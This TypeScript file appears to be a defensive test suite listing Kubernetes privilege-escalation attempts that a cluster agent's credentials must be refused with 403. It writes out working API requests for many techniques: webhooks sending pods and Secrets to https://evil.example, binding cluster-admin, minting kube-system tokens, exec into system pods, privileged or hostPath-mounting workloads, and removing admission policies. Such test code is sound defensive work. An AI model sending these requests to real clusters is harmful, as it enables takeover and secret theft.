import type { KubeApi } from '@home-base/dev/kube/api-client.ts';
import type { Resource } from '@home-base/schema/kube/resource.ts';
import { apply } from './cluster.ts';
import { bindingOf, configMap, inContainer, namespaceOf, operator, podSpec, rbac, roleOf, workload } from './forbidden-resources.ts';

type Attack = [name: string, run: () => Promise<{ status: number; message?: string; body?: string }>];

/** What somebody who has the agent in hand tries; the API server must answer each with 403. `agent` is asked for when an attack runs. */
export function agentAttacks(agent: () => KubeApi): Attack[] {
  const send: KubeApi['send'] = (...request) => agent().send(...request);
  const write = (resource: Resource) => apply(agent(), resource);
  const patch = (path: string, body: object) => send('PATCH', path, body, 'application/merge-patch+json');

  /** A binding's role cannot change, so the one there has to go first. */
  const bindAnew = async (role: string) => {
    await send('DELETE', `/apis/${rbac}/clusterrolebindings/redis-operator`);
    return write(bindingOf('redis-operator', role, operator));
  };

  const webhook = (name: string, apiGroups: string[], resources: string[], kind = 'MutatingWebhookConfiguration') =>
    write({
      apiVersion: 'admissionregistration.k8s.io/v1',
      kind,
      metadata: { name },
      webhooks: [
        {
          name: 'a.evil.example',
          admissionReviewVersions: ['v1'],
          sideEffects: 'None',
          clientConfig: { url: 'https://evil.example' },
          rules: [{ apiGroups, apiVersions: ['*'], operations: ['CREATE'], resources }],
        },
      ],
    });

  return [
    ['change every resource by a webhook of a name it may write', () => webhook('cert-manager-webhook', ['*'], ['*'])],
    ['change pods everywhere by the webhook of the AWS controller', () => webhook('aws-load-balancer-webhook', [''], ['pods'])],
    ['change bindings by a webhook', () => webhook('cert-manager-webhook', ['rbac.authorization.k8s.io'], ['clusterrolebindings'])],
    ['read new Secrets by a webhook', () => webhook('istio-validator', [''], ['secrets'], 'ValidatingWebhookConfiguration')],
    ['bind cluster-admin under a name it may write', () => bindAnew('cluster-admin')],
    [
      'bind admin in one of its namespaces',
      () => write({ ...bindingOf('x', 'admin', operator), kind: 'RoleBinding', metadata: { name: 'x', namespace: 'battery-core' } }),
    ],
    ['make a binding of another name', () => write(bindingOf('evil', 'cloudnative-pg', operator))],
    [
      'bind a role to every user',
      () =>
        write(
          bindingOf('cloudnative-pg', 'cloudnative-pg', {
            kind: 'Group',
            apiGroup: 'rbac.authorization.k8s.io',
            name: 'system:authenticated',
          }),
        ),
    ],
    [
      'bind a role to an account outside its namespaces',
      () => write(bindingOf('cloudnative-pg', 'cloudnative-pg', { kind: 'ServiceAccount', name: 'default', namespace: 'kube-system' })),
    ],
    ['bind its own role to another account', () => bindAnew('home-base-agent')],
    [
      'write all verbs into a role it may write',
      () => write(roleOf('cloudnative-pg', [{ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }])),
    ],
    [
      'write escalate into a role',
      () =>
        write(roleOf('cloudnative-pg', [{ apiGroups: ['rbac.authorization.k8s.io'], resources: ['clusterroles'], verbs: ['escalate'] }])),
    ],
    [
      'write bind into a role',
      () => write(roleOf('cloudnative-pg', [{ apiGroups: ['rbac.authorization.k8s.io'], resources: ['clusterroles'], verbs: ['bind'] }])),
    ],
    [
      'write a right that it does not hold into a role',
      () => write(roleOf('cloudnative-pg', [{ apiGroups: [''], resources: ['nodes'], verbs: ['create'] }])),
    ],
    [
      'gather other roles into one',
      () =>
        write({
          ...roleOf('cloudnative-pg', []),
          rules: null,
          aggregationRule: { clusterRoleSelectors: [{ matchLabels: { a: 'b' } }] },
        }),
    ],
    [
      "have a role gathered into Kubernetes' own",
      () =>
        write(
          roleOf('cloudnative-pg', [{ apiGroups: [''], resources: ['secrets'], verbs: ['get'] }], {
            'rbac.authorization.k8s.io/aggregate-to-view': 'true',
          }),
        ),
    ],
    ['widen its own role', () => write(roleOf('home-base-agent', [{ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }]))],
    ['make a role by POST', () => send('POST', `/apis/${rbac}/clusterroles`, roleOf('cloudnative-pg', []))],
    [
      'remove a policy that binds it',
      () => send('DELETE', '/apis/admissionregistration.k8s.io/v1/validatingadmissionpolicies/home-base-agent-rbac'),
    ],
    [
      'loosen a policy binding',
      () =>
        patch('/apis/admissionregistration.k8s.io/v1/validatingadmissionpolicybindings/home-base-agent-namespaces', {
          spec: { validationActions: ['Audit'] },
        }),
    ],
    ['write into kube-system', () => write(configMap('kube-system', 'evil'))],
    [
      'run a workload in the default namespace',
      () =>
        write({
          apiVersion: 'batch/v1',
          kind: 'Job',
          metadata: { name: 'evil', namespace: 'default' },
          spec: { template: { spec: { restartPolicy: 'Never', containers: [{ name: 'a', image: 'a' }] } } },
        }),
    ],
    [
      'make a role in kube-system',
      () =>
        write({
          apiVersion: rbac,
          kind: 'Role',
          metadata: { name: 'evil', namespace: 'kube-system' },
          rules: [{ apiGroups: [''], resources: ['secrets'], verbs: ['get'] }],
        }),
    ],
    ['make a namespace of another name', () => write({ apiVersion: 'v1', kind: 'Namespace', metadata: { name: 'evil' } })],
    ['relabel kube-system', () => patch('/api/v1/namespaces/kube-system', { metadata: { labels: { a: 'b' } } })],
    ['delete a namespace that is not its own', () => send('DELETE', '/api/v1/namespaces/default')],
    [
      'intercept every request of the cluster',
      () =>
        write({
          apiVersion: 'admissionregistration.k8s.io/v1',
          kind: 'MutatingWebhookConfiguration',
          metadata: { name: 'evil' },
          webhooks: [],
        }),
    ],
    [
      "change another's definition",
      () => patch('/apis/apiextensions.k8s.io/v1/customresourcedefinitions/theirs.example.com', { metadata: { labels: { a: 'b' } } }),
    ],
    ["remove another's definition", () => send('DELETE', '/apis/apiextensions.k8s.io/v1/customresourcedefinitions/theirs.example.com')],
    [
      "change another's issuer, through a right it holds for an operator",
      () => patch('/apis/cert-manager.io/v1/clusterissuers/theirs', { spec: { selfSigned: {} } }),
    ],
    [
      'swap its own image',
      () =>
        patch('/apis/apps/v1/namespaces/home-base/deployments/agent', {
          spec: { template: { spec: { containers: [{ name: 'agent', image: 'evil' }] } } },
        }),
    ],
    [
      'overwrite its own enrolment',
      () =>
        write({
          apiVersion: 'v1',
          kind: 'Secret',
          metadata: { name: 'agent-enrolment', namespace: 'home-base' },
          stringData: { token: 'evil' },
        }),
    ],
    ['run a shell in a pod of kube-system', () => send('POST', '/api/v1/namespaces/kube-system/pods/any/exec?command=id&stdout=true')],
    [
      'take a token of an account of kube-system',
      () =>
        send('POST', '/api/v1/namespaces/kube-system/serviceaccounts/cert-manager/token', {
          apiVersion: 'authentication.k8s.io/v1',
          kind: 'TokenRequest',
          spec: {},
        }),
    ],
    [
      'take a token of its own account for ever',
      () =>
        send('POST', '/api/v1/namespaces/home-base/serviceaccounts/agent/token', {
          apiVersion: 'authentication.k8s.io/v1',
          kind: 'TokenRequest',
          spec: {},
        }),
    ],
    [
      'approve a certificate',
      () =>
        patch('/apis/certificates.k8s.io/v1/certificatesigningrequests/any/approval', {
          status: { conditions: [{ type: 'Approved', status: 'True', reason: 'x' }] },
        }),
    ],
    [
      'mount a disk of a node',
      () => write({ apiVersion: 'storage.k8s.io/v1', kind: 'StorageClass', metadata: { name: 'evil' }, provisioner: 'x' }),
    ],
    ...(['hostPID', 'hostIPC', 'hostNetwork'] as const).map(
      (power): Attack => [`run a DaemonSet with ${power}`, () => write(workload('DaemonSet', podSpec({ [power]: true })))],
    ),
    ['run a privileged DaemonSet', () => write(workload('DaemonSet', inContainer({ privileged: true })))],
    [
      'run a privileged init container',
      () => write(workload('Deployment', podSpec({ initContainers: [{ name: 'b', image: 'b', securityContext: { privileged: true } }] }))),
    ],
    [
      'mount the file system of a node',
      () => write(workload('StatefulSet', podSpec({ volumes: [{ name: 'host', hostPath: { path: '/' } }] }))),
    ],
    ['add a capability', () => write(workload('Deployment', inContainer({ capabilities: { add: ['SYS_ADMIN'] } })))],
    [
      'run as a process of a Windows node',
      () =>
        patch('/apis/apps/v1/namespaces/battery-base/daemonsets/metallb-speaker', {
          spec: { template: { spec: { securityContext: { windowsOptions: { hostProcess: true, runAsUserName: 'a' } } } } },
        }),
    ],
    [
      'run a privileged CronJob',
      () =>
        write({
          apiVersion: 'batch/v1',
          kind: 'CronJob',
          metadata: { name: 'evil', namespace: 'battery-ai' },
          spec: {
            schedule: '* * * * *',
            jobTemplate: { spec: { template: { spec: { ...inContainer({ privileged: true }), restartPolicy: 'Never' } } } },
          },
        }),
    ],
    [
      'run a Job in the namespaces of the host',
      () =>
        write({
          apiVersion: 'batch/v1',
          kind: 'Job',
          metadata: { name: 'evil', namespace: 'battery-ai' },
          spec: { template: { spec: podSpec({ restartPolicy: 'Never', hostPID: true }) } },
        }),
    ],
    [
      'run a bare pod with the file system of a node where pod security allows it',
      () =>
        send('POST', '/api/v1/namespaces/battery-base/pods', {
          apiVersion: 'v1',
          kind: 'Pod',
          metadata: { name: 'evil' },
          spec: podSpec({ serviceAccountName: 'metallb-speaker', volumes: [{ name: 'host', hostPath: { path: '/' } }] }),
        }),
    ],
    [
      "give MetalLB's speaker more than raw sockets",
      () =>
        patch('/apis/apps/v1/namespaces/battery-base/daemonsets/metallb-speaker', {
          spec: { template: { spec: inContainer({ capabilities: { add: ['NET_RAW', 'SYS_ADMIN'] } }) } },
        }),
    ],
    [
      'turn a workload that is there into a privileged one',
      () => patch('/apis/apps/v1/namespaces/battery-base/daemonsets/metallb-speaker', { spec: { template: { spec: { hostPID: true } } } }),
    ],
    ['take the pod security from a namespace', () => write(namespaceOf('battery-ai', { enforce: 'privileged' }))],
    ['make a namespace without pod security', () => write(namespaceOf('battery-new', {}))],
    ['loosen the pod security of the core namespace', () => write(namespaceOf('battery-core', { enforce: 'baseline' }))],
    ['enforce the pod security of long ago', () => write(namespaceOf('battery-ai', { enforce: 'baseline', 'enforce-version': 'v1.0' }))],
    // It holds these rights because it hands them to Karpenter.
    ['delete a node', () => send('DELETE', '/api/v1/nodes/theirs')],
    [
      'close a node to pods',
      () => send('PATCH', '/api/v1/nodes/theirs', { spec: { unschedulable: true } }, 'application/merge-patch+json'),
    ],
    ["delete a pod of somebody else's", () => send('DELETE', '/api/v1/namespaces/kube-system/pods/theirs')],
    [
      "evict a pod of somebody else's",
      () =>
        send('POST', '/api/v1/namespaces/kube-system/pods/theirs/eviction', {
          apiVersion: 'policy/v1',
          kind: 'Eviction',
          metadata: { name: 'theirs', namespace: 'kube-system' },
        }),
    ],
  ];
}
